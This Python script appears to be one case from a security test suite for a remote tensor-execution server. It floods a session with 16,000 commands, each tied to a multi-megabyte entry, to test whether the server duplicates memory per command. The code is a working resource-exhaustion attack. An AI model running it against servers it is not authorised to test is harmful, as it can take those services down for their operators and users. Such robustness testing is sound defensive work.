"""Messages of a session with thousands of commands that name one large entry: uploads to a buffer that nobody made,
and calls that look at one element of it. Who keeps or copies an entry for each command does so for all of them.

Cost: 15 MiB and 300 KiB.
"""

import wire
from attack import Attack, Target, run
from sessions import CONTEXT, Session

COMMANDS = 16_000
# No entry is most of its message.
ENTRIES = [bytes(7 << 20), bytes(8 << 20)]
NOWHERE = [wire.upload(wire.buffer_range(99), 1, raw=i) for i in (0, 1)]
ONE_ELEMENT = [
    wire.field(
        1, wire.call("Hardshrink", [wire.tensor("self", wire.FLOAT32, [1], [1], offset=1000, raw=i)], lambd=0.5)
    )
    for i in (0, 1)
]


def ask(number: int, bodies: list[bytes]):
    def attack(target: Target) -> None:
        session = Session(target.connect(target.index)).begin()
        commands = [session.command(number, bodies[i % 2]) for i in range(COMMANDS)]
        last = session.send_group([*commands, session.command(wire.QUERY_MEMORY, wire.ids(CONTEXT))], ENTRIES)
        session.await_answers(last, target.seconds)

    return attack


if __name__ == "__main__":
    run(Attack([ask(wire.UPLOAD, NOWHERE), ask(wire.EXECUTE, ONE_ELEMENT)], rss_mib=500))
